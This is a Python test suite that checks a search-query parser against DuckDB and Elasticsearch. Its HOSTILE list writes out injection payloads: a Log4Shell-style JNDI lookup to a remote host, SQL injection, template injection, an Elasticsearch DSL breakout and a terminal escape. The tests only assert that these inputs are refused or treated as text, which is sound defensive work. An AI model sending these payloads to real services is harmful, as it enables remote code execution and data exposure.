"""The predicate, DuckDB and a real Elasticsearch give the same answers: random questions, random documents."""

from __future__ import annotations

import itertools
import os
import random
from datetime import UTC, datetime

import pytest
from elastic_rows import FIELDS, ElasticRows, by_duckdb, by_predicate, rows, trees
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from some.errors import BadInput
from some.index import text
from some.index.fields import TEXT
from some.index.query.bind import Options, understand
from some.index.query.dsl import KEYWORD_LIMIT, MAX_STARS, condition, stored_words
from some.index.query.source import MAX_DEPTH
from some.index.query.tree import (
    And,
    Exists,
    FreeText,
    Not,
    Op,
    Or,
    Phrase,
    QueryFault,
    Range,
    Term,
    Wildcard,
)

FULL = os.environ.get("SOME_FULL") == "1"
QUESTIONS = 10
"""Of each example: 30 examples are 300 cases, 1,000 are 10,000."""

_names = itertools.count()


@pytest.fixture(scope="module")
def index(elastic):
    return ElasticRows(elastic, f"rows-{next(_names)}")


def same(index, held, asked):
    expected = by_predicate(held, asked)
    for place, (tree, wanted, found) in enumerate(zip(asked, expected, by_duckdb(held, asked), strict=True)):
        assert found == wanted, f"{place} {tree!s:.600}"
    for tree, wanted, found in zip(asked, expected, index.ask(held, asked), strict=True):
        assert found == wanted, f"{tree!s:.600}"
    return expected


@settings(max_examples=1_000 if FULL else 30, deadline=None, suppress_health_check=list(HealthCheck))
@given(held=st.lists(rows, min_size=1, max_size=12), asked=st.lists(trees, min_size=QUESTIONS, max_size=QUESTIONS))
def test_three_engines_give_one_answer(index, held, asked):
    same(index, held, asked)


PHRASES = [
    ("192", "168", "*"),
    ("*", "168"),
    ("*", "168", "*"),
    ("192", "*", "1"),
    ("192", "*", "*", "5"),
    ("1*", "16*", "*", "5"),
    ("*",),
    ("*", "*", "*"),
    ("a", "a"),
    ("a", "*", "a"),
    ("*", "a", "a"),
    ("a", "a", "*"),
    ("*", "*", "a"),
    ("b*", "a_a"),
    ("192", "168", "1", "5"),
    ("9*2", "168"),
]


def test_words_stand_where_they_are_asked_for(index):
    texts = [
        "192.168.1.5",
        "192.168",
        "",
        "a",
        "a a",
        "a a a",
        "x 192 168 y",
        "192 7 1 168 5",
        "a b a",
        "B_B A_A a_a",
        "b",
    ]
    answers = same(index, [{TEXT: one, "message": one} for one in texts], [FreeText(one) for one in PHRASES])
    assert answers[0] == {0, 6}
    assert answers[6] == {place for place, one in enumerate(texts) if one}
    assert same(index, [{TEXT: "", "message": one} for one in texts], [Phrase("message", one) for one in PHRASES])


def test_every_letter_is_found_where_it_stands(index):
    letters = [chr(code) for code in range(0x110000) if not 0xD800 <= code < 0xE000 and text.tokens(chr(code))]
    random.Random(5).shuffle(letters)
    for start in range(0, len(letters), 2_000):
        words = stored_words(text.token_text(" ".join(letters[start : start + 2_000])))
        assert index.cut(words) == words.split()


@settings(max_examples=2_000 if FULL else 100, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    written=st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
    | st.text(st.characters(categories=["L", "N", "M"]), max_size=20)
    | st.text(st.characters(max_codepoint=0x52F, categories=["L", "N", "P"]), max_size=20)
)
def test_the_server_cuts_words_where_we_do(index, written):
    words = stored_words(text.token_text(written))
    assert index.cut(words) == words.split()


def test_a_long_word_is_one_word(index):
    word = "şü" * 8_000
    held = [{TEXT: word}, {TEXT: f"{word}x y"}, {TEXT: f"x {word}"}]
    asked = [FreeText((word,)), FreeText((f"{word}x", "y")), FreeText(("x", "şü*")), FreeText(("*x",))]
    assert same(index, held, asked) == [{0, 2}, {1}, {2}, {1, 2}]
    with pytest.raises(BadInput):
        condition(FreeText((f"{word}*",)), "deneme1", FIELDS)


def test_a_keyword_beyond_the_limit_is_there_but_not_found(index):
    longer = "a" * (KEYWORD_LIMIT + 1)
    held = [{TEXT: "", "user.name": longer}, {TEXT: "", "event.type": [longer, "b"]}, {TEXT: ""}]
    asked = [
        Exists("user.name"),
        Not(Exists("user.name")),
        Exists("event.type"),
        Term("event.type", "b"),
        Term("user.name", longer),
    ]
    assert index.ask(held, asked) == [{0}, {1, 2}, {1}, {1}, set()]


def test_times_beyond_the_server_compare_as_they_should(index):
    low, high = -5_000_000, 2**63 // 1000 + 5_000_000
    held = [{TEXT: "", "@timestamp": low}, {TEXT: "", "@timestamp": 0}, {TEXT: "", "@timestamp": high}]
    asked = [Range("@timestamp", op, 1_795_000_000_000_000) for op in Op]
    asked += [
        Range("@timestamp", Op.GT, high + 1),
        Range("@timestamp", Op.LT, low - 1),
        Range("@timestamp", Op.GTE, low),
    ]
    assert same(index, held, asked) == [{0, 1}, {0, 1}, {2}, {2}, set(), set(), {0, 1, 2}]


HOSTILE = [
    *(
        "(" * 2_000,
        "not " * 400 + "a",
        "((((((((((((((((((((a))))))))))))))))))))",
        "a or " * 300 + "a",
        "*a",
        "user.name:*a",
    ),
    *(
        'user.name:"\\"}},{\\"match_all\\":{}"',
        "user.name:a\\*b",
        "' OR 1=1 --",
        'user.name:"a" OR "1"="1"',
        "a\x00b",
        "\x1b[2J",
    ),
    *("_exists_:user.name", "+a -b", "a && b", "/a.*/", "a~2", "a^5", "{!lucene}a", "user.name:[* TO *]", "no.such:a"),
    *(
        '"user.name\\"":a',
        "_id:1",
        "set:1",
        "some.text#tokens:a",
        'us"er:a',
        "source.port:1e400",
        "source.ip:10.0.0.0/99",
    ),
    *(
        "@timestamp:now-99999999999y",
        "source.port:99999999999999999999",
        "x" * 3_000,
        "user.name:" + "a*" * 500,
        "a* b* c*",
    ),
    *(
        "user.name:" + "?*" * 400,
        "${jndi:ldap://192.0.2.1/a}",
        "{{7*7}}",
        "ali\u202eila",
        "\ud800",
        "user.name:(a or b) c",
    ),
]


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_hostile_text_is_refused_or_is_text(index, number):
    held = [{TEXT: "a b", "user.name": "a*b"}, {TEXT: "match_all", "user.name": "ab"}, {TEXT: "' OR 1=1 --"}]
    for leading in (False, True):
        options = Options(datetime(2026, 11, 23, tzinfo=UTC), leading_wildcard=leading, fields=FIELDS)
        tree = _understood(HOSTILE[number], options)
        if isinstance(tree, QueryFault):
            assert tree.column >= 1
            assert str(tree)
        elif HOSTILE[number].count("*") > MAX_STARS:
            with pytest.raises(BadInput):
                condition(tree, "deneme1", FIELDS)
        else:
            same(index, held, [tree])


def _understood(asked, options):
    try:
        return understand(asked, options)
    except QueryFault as fault:
        return fault


def test_values_are_never_a_part_of_the_question(index):
    bad = [
        "*",
        "?",
        "\\",
        "\\*",
        '"',
        '"}}',
        "a*",
        "[a TO z]",
        "_exists_",
        "\x00",
        "'; --",
        "%",
        "_",
        "\u2028",
        "\ufeff",
    ]
    held = [{TEXT: "", "user.name": one} for one in bad]
    for asked in ([Term("user.name", one) for one in bad], [Wildcard("user.name", (one, "")) for one in bad]):
        for place, found in enumerate(same(index, held, asked)):
            assert place in found
            assert len(found) <= 3
    assert same(index, held, [Wildcard("user.name", ("", one, "")) for one in bad])


def test_questions_of_great_size_are_answered(index):
    held = [{TEXT: "ali", "user.name": "ali", "source.port": 9_999}, {TEXT: "a" * 500, "user.name": "a" * 500}]
    many = Or(tuple(Term("source.port", number) for number in range(10_000)))
    deep = FreeText(("*", "a*", "*", "*b", "*"))
    for _ in range(MAX_DEPTH // 2):
        deep = Not(And((deep, Exists("user.name"))))
    stars = Wildcard("user.name", ("a",) * 200)
    wild = Wildcard("user.name", ("", *("a*?\\" * 20), ""))
    words = FreeText(tuple(["a*"] * 3))
    same(index, held, [many, deep, stars, wild, words, Not(many)])
